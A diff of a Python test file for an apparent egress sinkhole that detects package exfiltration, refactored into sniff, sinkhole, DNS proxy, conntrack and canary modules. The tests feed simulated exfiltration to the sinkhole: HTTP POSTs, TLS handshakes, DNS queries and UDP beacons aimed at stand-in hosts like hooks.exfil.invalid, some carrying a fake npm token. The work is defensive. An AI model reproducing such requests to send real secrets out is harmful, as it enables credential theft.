@@ -1,7 +1,8 @@
 """
-Tests for L{fangs.runner.gateway}: the parsers, and one run's gateway driven
-through in-memory transports and a L{Clock} (the real sockets, DNAT and
-Docker are in L{tests.runner.test_egress}).
+Tests for L{fangs.runner.gateway} and its parts (L{fangs.runner.sniff},
+L{fangs.runner.sinkhole}, L{fangs.runner.dnsproxy}, L{fangs.runner.conntrack}):
+the parsers, and one run's gateway driven through in-memory transports and a
+L{Clock} (the real sockets, DNAT and Docker are in L{tests.integration.runner.test_egress}).
 """
 
 from __future__ import annotations
@@ -18,7 +19,11 @@ from twisted.internet.testing import StringTransport
 from twisted.names import dns
 from twisted.trial.unittest import SynchronousTestCase
 
+from fangs.runner import canary, dnsproxy
+from fangs.runner import conntrack as C
 from fangs.runner import gateway as G
+from fangs.runner import sinkhole as K
+from fangs.runner import sniff as S
 from fangs.wire import EventType, RunID
 
 TOKEN = "npm_Zq8vY3kP0sLw2Xr7Tn5Bd1Hf6Jm4Gc9Ae0Qu"
@@ -42,41 +47,41 @@ def clientHello(sni: str = "hooks.exfil.invalid", alpn: Tuple[str, ...] = ("h2",
 
 class ParserTests(SynchronousTestCase):
     def test_clientHello(self) -> None:
-        hello = G.parseClientHello(clientHello("secure.exfil.invalid"))
-        self.assertEqual(hello, G.ClientHello("secure.exfil.invalid", ("h2", "http/1.1")))
+        hello = S.parseClientHello(clientHello("secure.exfil.invalid"))
+        self.assertEqual(hello, S.ClientHello("secure.exfil.invalid", ("h2", "http/1.1")))
 
     def test_clientHelloWithoutALPN(self) -> None:
-        self.assertEqual(G.parseClientHello(clientHello("a.invalid", ())).alpn, ())
+        self.assertEqual(S.parseClientHello(clientHello("a.invalid", ())).alpn, ())
 
     def test_clientHelloIncomplete(self) -> None:
         data = clientHello()
         for cut in (0, 1, 4, 5, 40, len(data) - 1):
-            self.assertRaises(G.NeedMore, G.parseClientHello, data[:cut])
+            self.assertRaises(S.NeedMore, S.parseClientHello, data[:cut])
 
     def test_notTLS(self) -> None:
-        self.assertRaises(G.NotThis, G.parseClientHello, b"GET / HTTP/1.1\r\n")
-        self.assertRaises(G.NotThis, G.parseClientHello, b"\x16\x09\x00\x00\x05hello")
+        self.assertRaises(S.NotThis, S.parseClientHello, b"GET / HTTP/1.1\r\n")
+        self.assertRaises(S.NotThis, S.parseClientHello, b"\x16\x09\x00\x00\x05hello")
 
     def test_requestHead(self) -> None:
-        head = G.parseRequestHead(b"POST /x?a=1 HTTP/1.1\r\nHost: hooks.example\r\nX-A: 1\r\nX-A: 2\r\n\r\nbody")
+        head = S.parseRequestHead(b"POST /x?a=1 HTTP/1.1\r\nHost: hooks.example\r\nX-A: 1\r\nX-A: 2\r\n\r\nbody")
         self.assertEqual((head.method, head.host, head.path, head.length), ("POST", "hooks.example", "/x?a=1", 61))
         self.assertEqual(head.headers["x-a"], "1, 2")
 
     def test_requestHeadAbsoluteForm(self) -> None:
-        head = G.parseRequestHead(b"GET http://h.invalid:8080/p HTTP/1.1\r\nHost: other\r\n\r\n")
+        head = S.parseRequestHead(b"GET http://h.invalid:8080/p HTTP/1.1\r\nHost: other\r\n\r\n")
         self.assertEqual((head.host, head.path), ("h.invalid:8080", "/p"))
 
     def test_requestHeadIncompleteOrNot(self) -> None:
-        self.assertRaises(G.NeedMore, G.parseRequestHead, b"PO")
-        self.assertRaises(G.NeedMore, G.parseRequestHead, b"POST / HTTP/1.1\r\nHost: x\r\n")
-        self.assertRaises(G.NotThis, G.parseRequestHead, b"SSH-2.0-OpenSSH\r\n")
-        self.assertRaises(G.NotThis, G.parseRequestHead, b"\x00\x01binary")
-        self.assertRaises(G.NotThis, G.parseRequestHead, b"GET " + b"a" * 20000, 16384)
+        self.assertRaises(S.NeedMore, S.parseRequestHead, b"PO")
+        self.assertRaises(S.NeedMore, S.parseRequestHead, b"POST / HTTP/1.1\r\nHost: x\r\n")
+        self.assertRaises(S.NotThis, S.parseRequestHead, b"SSH-2.0-OpenSSH\r\n")
+        self.assertRaises(S.NotThis, S.parseRequestHead, b"\x00\x01binary")
+        self.assertRaises(S.NotThis, S.parseRequestHead, b"GET " + b"a" * 20000, 16384)
 
     def test_chunks(self) -> None:
         body = b"5\r\nhello\r\n6;ext=1\r\n world\r\n0\r\n\r\n"
         for step in (1, 2, 3, 7, len(body)):
-            c = G._Chunks()
+            c = S.ChunkedBody()
             out, done = b"", False
             for i in range(0, len(body), step):
                 part, done = c.feed(body[i:i + step])
@@ -93,9 +98,9 @@ class ParserTests(SynchronousTestCase):
                          {"10.0.0.5": frozenset({4873}), "::1": frozenset({8080}), "fd00::5": frozenset({80, 443})})
 
     def test_splitHostPort(self) -> None:
-        self.assertEqual(G.splitHostPort("a.invalid:8080", 80), ("a.invalid", 8080))
-        self.assertEqual(G.splitHostPort("a.invalid", 80), ("a.invalid", 80))
-        self.assertEqual(G.splitHostPort("[::1]:81", 80), ("::1", 81))
+        self.assertEqual(S.splitHostPort("a.invalid:8080", 80), ("a.invalid", 8080))
+        self.assertEqual(S.splitHostPort("a.invalid", 80), ("a.invalid", 80))
+        self.assertEqual(S.splitHostPort("[::1]:81", 80), ("::1", 81))
 
 
 class FakeUpstreams:
@@ -138,7 +143,7 @@ class GatewayTestsMixin:
 
     def connect(self, dest: Tuple[str, int] = ("172.30.0.1", 80)) -> Tuple[Any, StringTransport]:
         self.dest = dest
-        proto = G._ConnectionFactory(self.gw).buildProtocol(None)
+        proto = K.Connection(self.gw)
         t = StringTransport()
         proto.makeConnection(t)
         return proto, t
@@ -157,7 +162,7 @@ class SinkholeTests(GatewayTestsMixin, SynchronousTestCase):
         proto.dataReceived(b"POST /x HTTP/1.1\r\nHost: hooks.exfil.invalid\r\nContent-Length: %d\r\n\r\n" % (len(body),))
         self.assertEqual(t.value(), b"")  # waits for the body
         proto.dataReceived(body)
-        self.assertEqual(t.value(), G.HTTP_OK)
+        self.assertEqual(t.value(), K.HTTP_OK)
         self.assertTrue(t.disconnecting)
         [e] = self.attempts()
         self.assertEqual({k: e[k] for k in ("Protocol", "Action", "Method", "Host", "Path", "DestName", "DestIP",
@@ -182,7 +187,7 @@ class SinkholeTests(GatewayTestsMixin, SynchronousTestCase):
         proto.dataReceived(b"%x\r\n" % (len(big),) + big + b"\r\n")
         self.assertEqual(t.value(), b"")
         proto.dataReceived(b"0\r\n\r\n")
-        self.assertEqual(t.value(), G.HTTP_OK)
+        self.assertEqual(t.value(), K.HTTP_OK)
         [e] = self.attempts()
         self.assertEqual(e["BodySize"], len(big))
         self.assertEqual(len(base64.b64decode(e["BodyB64"])), 64 * 1024)
@@ -194,7 +199,7 @@ class SinkholeTests(GatewayTestsMixin, SynchronousTestCase):
         proto.dataReceived(hello[:30])
         self.assertEqual(self.attempts(), [])
         proto.dataReceived(hello[30:])
-        self.assertEqual(t.value(), G.TLS_HANDSHAKE_FAILURE)
+        self.assertEqual(t.value(), K.TLS_HANDSHAKE_FAILURE)
         [e] = self.attempts()
         self.assertEqual((e["Protocol"], e["Action"], e["SNI"], e["ALPN"], e["DestName"], e["DestPort"]),
                          ("tls", "sinkholed", "secure.exfil.invalid", ["h2", "http/1.1"], "secure.exfil.invalid", 443))
@@ -252,7 +257,7 @@ class CanaryTimingTests(GatewayTestsMixin, SynchronousTestCase):
         proto, t = self.connect()
         body = TOKEN.encode()
         proto.dataReceived(b"POST / HTTP/1.1\r\nHost: h.invalid\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
-        self.assertEqual(t.value(), G.HTTP_OK)  # answered at once
+        self.assertEqual(t.value(), K.HTTP_OK)  # answered at once
         self.assertEqual(self.events, [])
         self.gw.setCanaries({"npm_token": TOKEN})
         self.assertEqual([t for t, _ in self.events], [12, 9])
@@ -327,25 +332,25 @@ class DNSTests(GatewayTestsMixin, SynchronousTestCase):
         self.assertEqual((e["Protocol"], e["DestPort"], e["Canaries"]), ("udp", 53, ["npm_token"]))
 
     def test_udpSink(self) -> None:
-        G._UDPSink(self.gw).datagramReceived(b"beacon " + TOKEN.encode(), ("172.30.0.2", 5555))
-        G._UDPSink(self.gw).datagramReceived(b"untracked", ("172.30.0.3", 5555))
+        K.UDPSink(self.gw).datagramReceived(b"beacon " + TOKEN.encode(), ("172.30.0.2", 5555))
+        K.UDPSink(self.gw).datagramReceived(b"untracked", ("172.30.0.3", 5555))
         [e, f] = self.attempts()
         self.assertEqual((e["Protocol"], e["Action"], e["Canaries"], e["DestIP"], e["DestPort"]),
                          ("udp", "sinkholed", ["npm_token"], "172.30.0.1", 9999))
         self.assertEqual((f["DestIP"], f["DestPort"]), ("", 0))
 
     def test_netlinkAttributes(self) -> None:
-        blob = G._nla(1, b"abc") + G._nla(2 | 0x8000, G._nla(3, b"\x00\x35"))
-        parsed = G._nlaParse(blob)
+        blob = C._nla(1, b"abc") + C._nla(2 | 0x8000, C._nla(3, b"\x00\x35"))
+        parsed = C._nlaParse(blob)
         self.assertEqual(parsed[1], b"abc")
-        self.assertEqual(G._nlaParse(parsed[2]), {3: b"\x00\x35"})
-        self.assertIsNone(G.conntrackOriginal(("127.0.0.1", 1), ("127.0.0.1", 2)))  # not tracked
+        self.assertEqual(C._nlaParse(parsed[2]), {3: b"\x00\x35"})
+        self.assertIsNone(C.conntrackOriginal(("127.0.0.1", 1), ("127.0.0.1", 2)))  # not tracked
 
     def test_dnsOverTCP(self) -> None:
         q = dns.Message(id=3)
         q.queries = [dns.Query("tcp.exfil.invalid", dns.A, dns.IN)]
         raw = q.toStr()
-        p = G._DNSTCPFactory(self.gw).buildProtocol(None)
+        p = dnsproxy.DNSTCP(self.gw)
         t = StringTransport()
         p.makeConnection(t)
         p.dataReceived(struct.pack("!H", len(raw)) + raw)
@@ -496,7 +501,7 @@ class LayeredEncodingTests(GatewayTestsMixin, SynchronousTestCase):
 
     def test_expansionBounded(self) -> None:
         blob = base64.b64encode(base64.b64encode(b"\0" * 300000))
-        out = G.expandForScan(blob, budget=64 * 1024)
+        out = canary.expandForScan(blob, budget=64 * 1024)
         self.assertLessEqual(sum(len(b) for b in out), 64 * 1024)
 
 
@@ -513,12 +518,12 @@ class PlainHTTPRegistryTests(GatewayTestsMixin, SynchronousTestCase):
         proto, t = self.connect(("104.16.0.35", 8080))
         proto.dataReceived(b"GET / HTTP/1.1\r\nHost: registry.npmjs.org:8080\r\n\r\n")
         self.assertEqual(self.upstreams.calls, [])
-        self.assertEqual(t.value(), G.HTTP_OK)
+        self.assertEqual(t.value(), K.HTTP_OK)
 
     def test_upstreamFailureClosesQuietly(self) -> None:
         from twisted.internet.defer import fail
 
-        self.gw._connect = lambda host, port, protocol, timeout: fail(ConnectionRefusedError("no"))
+        self.gw.connect = lambda host, port, protocol, timeout: fail(ConnectionRefusedError("no"))
         proto, t = self.connect(("104.16.0.35", 443))
         proto.dataReceived(clientHello("registry.npmjs.org"))
         self.assertTrue(t.disconnected)
